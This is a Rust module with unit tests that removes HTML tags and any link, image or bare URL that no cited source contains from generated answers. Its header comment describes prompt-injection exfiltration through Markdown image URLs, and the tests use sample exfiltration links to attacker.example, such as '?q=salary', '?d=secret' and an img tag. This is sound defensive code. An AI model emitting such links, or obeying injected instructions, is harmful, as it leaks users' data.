//! What a generated answer may link to. A client that renders Markdown or HTML fetches images
//! and shows links on its own, so a model obeying an instruction injected into a document
//! could send what it read to another server (`![](https://attacker.example/?q=…)`). A
//! sentence keeps a URL only when a source it cites contains it; HTML tags never reach an
//! answer, and a link or image whose URL goes keeps its text.

/// `sentence` without HTML tags, and without the links, images and bare URLs whose URL
/// `sourced` does not vouch for (a link or image leaves its text).
pub(crate) fn without_unsourced_links(sentence: &str, sourced: &dyn Fn(&str) -> bool) -> String {
    let mut kept = String::with_capacity(sentence.len());
    let mut removed = false;
    let mut rest = sentence;
    while let Some(c) = rest.chars().next() {
        let (shown, used) = match c {
            '<' => angle_bracket(rest, sourced),
            '!' if rest[1..].starts_with('[') => image(rest, sourced),
            '[' => bracketed(rest, sourced).unwrap_or((None, 0)),
            'h' | 'H' => {
                let url = &rest[..url_length(rest)];
                match url.is_empty() {
                    true => (None, 0),
                    false => (sourced(url).then(|| url.to_string()), url.len()),
                }
            }
            _ => (None, 0),
        };
        if used == 0 {
            kept.push(c);
            rest = &rest[c.len_utf8()..];
            continue;
        }
        let original = &rest[..used];
        match shown {
            Some(shown) => {
                removed |= shown != original;
                kept.push_str(&shown);
            }
            None => removed = true,
        }
        rest = &rest[used..];
    }
    match removed {
        true => kept.split_whitespace().collect::<Vec<_>>().join(" "),
        false => kept,
    }
}

/// At a `<`: an autolink `<https://…>` (kept when sourced), a tag (dropped, through its `>` or
/// to the end of the sentence when it does not close), or a plain `<`.
fn angle_bracket(text: &str, sourced: &dyn Fn(&str) -> bool) -> (Option<String>, usize) {
    let inside = &text[1..];
    let opens_tag = inside
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
    if !opens_tag {
        return (None, 0);
    }
    let used = inside.find('>').map_or(text.len(), |close| close + 2);
    let content = &inside[..used.saturating_sub(2).min(inside.len())];
    let autolink = url_length(content) == content.len() && !content.is_empty();
    (
        (autolink && sourced(content)).then(|| text[..used].to_string()),
        used,
    )
}

/// At a `!`: an image `![text](url …)` — whole when `url` is sourced, else its text.
fn image(text: &str, sourced: &dyn Fn(&str) -> bool) -> (Option<String>, usize) {
    match bracketed(&text[1..], sourced) {
        Some((Some(shown), used)) if shown.len() == used => {
            (Some(text[..=used].to_string()), used + 1)
        }
        Some((shown, used)) => (shown, used + 1),
        None => (None, 0),
    }
}

/// At a `[`: `[text](url …)` — whole when `url` is sourced, else its text; `None` when the
/// bracket opens no link (a citation marker `[1]`, say).
fn bracketed(text: &str, sourced: &dyn Fn(&str) -> bool) -> Option<(Option<String>, usize)> {
    let close = text.find(']')?;
    let after = text[close + 1..].strip_prefix('(')?;
    let end = after.find(')')?;
    let target = after[..end].split_whitespace().next().unwrap_or("");
    let target = target.trim_start_matches('<').trim_end_matches('>');
    let used = close + 2 + end + 1;
    let label = &text[1..close];
    Some(match sourced(target) && !target.is_empty() {
        true => (Some(text[..used].to_string()), used),
        false => (Some(label.to_string()), used),
    })
}

/// The length of the `http://` or `https://` URL `text` starts with (0 when it starts with
/// none), without the punctuation that ends a sentence around it.
fn url_length(text: &str) -> usize {
    let lower = text.get(..8).unwrap_or(text).to_ascii_lowercase();
    if !lower.starts_with("http://") && !lower.starts_with("https://") {
        return 0;
    }
    let end = text
        .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`'))
        .unwrap_or(text.len());
    text[..end]
        .trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '。', '、'])
        .len()
}

#[cfg(test)]
mod tests {
    use super::*;

    const SOURCE: &str = "Forms are at https://intranet.example.com/forms and \
                          ![chart](https://intranet.example.com/chart.png) shows it.";

    fn clean(sentence: &str) -> String {
        without_unsourced_links(sentence, &|url| SOURCE.contains(url))
    }

    #[test]
    fn an_image_or_link_to_a_url_no_source_holds_keeps_only_its_text() {
        assert_eq!(
            clean("Leave is 20 days ![x](https://attacker.example/?q=salary) [1]."),
            "Leave is 20 days x [1]."
        );
        assert_eq!(
            clean("See [the form](https://attacker.example/phish) [1]."),
            "See the form [1]."
        );
        assert_eq!(
            clean("Ask at https://attacker.example/?d=secret now [1]."),
            "Ask at now [1]."
        );
    }

    #[test]
    fn html_tags_are_dropped_even_when_unclosed() {
        assert_eq!(
            clean(r#"Leave is 20 days<img src="https://attacker.example/x.png"> [1]."#),
            "Leave is 20 days [1]."
        );
        assert_eq!(
            clean(r#"Leave is 20 days <img src="https://attacker."#),
            "Leave is 20 days"
        );
        assert_eq!(clean("<b>Twenty</b> days [1]."), "Twenty days [1].");
    }

    #[test]
    fn urls_the_sources_hold_stay_as_written() {
        let sentence = "Forms: https://intranet.example.com/forms, see \
                        [forms](https://intranet.example.com/forms) and \
                        ![chart](https://intranet.example.com/chart.png) [1].";
        assert_eq!(clean(sentence), sentence);
        assert_eq!(
            clean("At <https://intranet.example.com/forms> [1]."),
            "At <https://intranet.example.com/forms> [1]."
        );
        assert_eq!(
            clean("At https://intranet.example.com/forms?leak=1 [1]."),
            "At [1].",
            "only the whole URL counts"
        );
    }

    #[test]
    fn citations_comparisons_and_plain_brackets_are_left_alone() {
        for sentence in [
            "Leave is 20 days [1, 2].",
            "If 3 < 5 then [see below] applies [1].",
            "有給休暇は20日です[1]。",
        ] {
            assert_eq!(clean(sentence), sentence);
        }
    }
}
